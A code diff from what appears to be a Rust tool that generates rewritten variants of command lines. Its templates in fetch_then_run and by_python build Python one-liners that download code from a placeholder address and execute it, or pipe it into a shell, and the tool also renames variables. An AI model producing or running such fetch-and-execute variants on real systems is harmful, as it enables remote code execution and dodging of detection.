@@ -189,7 +189,9 @@ fn fetch_then_run(site: &Site<'_>, dice: &mut Dice) -> Option<Change> {
 fn by_python(site: &Site<'_>, dice: &mut Dice) -> Option<Change> {
     let pick = dice.below(2);
     instead(site, |Piped { address, shell, .. }| match pick {
-        0 => format!("python3 -c \"import urllib.request as u; exec(u.urlopen('{address}').read())\""),
+        0 => format!(
+            "python3 -c \"import urllib.request as u; import os; os.system(u.urlopen('{address}').read().decode())\""
+        ),
         _ => format!(
             "python3 -c \"import urllib.request as u; print(u.urlopen('{address}').read().decode())\" | {shell}"
         ),
@@ -298,7 +300,12 @@ fn renamed(site: &Site<'_>, dice: &mut Dice) -> Option<Change> {
             && !name.starts_with(|c: char| c.is_ascii_digit());
         // A comparison sets nothing, and some names are read by the shell itself.
         let special = matches!(name, "PATH" | "HOME" | "IFS" | "SHELL" | "LD_PRELOAD" | "PS1" | "PYTHONPATH");
-        if plain && !value.starts_with('=') && !special && !names.iter().any(|(old, _)| old == name) {
+        if plain
+            && !value.is_empty()
+            && !value.starts_with('=')
+            && !special
+            && !names.iter().any(|(old, _)| old == name)
+        {
             names.push((name.to_owned(), format!("item_{}{}", names.len(), dice.below(90) + 10)));
         }
     }
@@ -376,6 +383,7 @@ mod tests {
         .unwrap();
         assert_eq!(change.renamed.len(), 1);
         assert_eq!(change.renamed[0].0, "key");
+        assert_eq!(renamed(&site(Kind::Shell, "aGVsbG8gd29ybGQ="), &mut Dice::new(1, &[])), None);
         assert_eq!(renamed(&site(Kind::Python, "send(key)"), &mut Dice::new(1, &[])), None);
     }
 
